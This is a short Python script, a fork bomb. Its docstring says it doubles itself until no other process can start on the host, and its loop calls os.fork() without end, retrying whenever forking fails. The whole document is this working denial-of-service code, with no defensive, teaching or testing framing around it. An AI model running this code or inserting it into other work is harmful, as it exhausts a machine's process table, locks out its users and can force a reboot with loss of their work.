"""Doubles itself until nothing else on the host can start a process."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
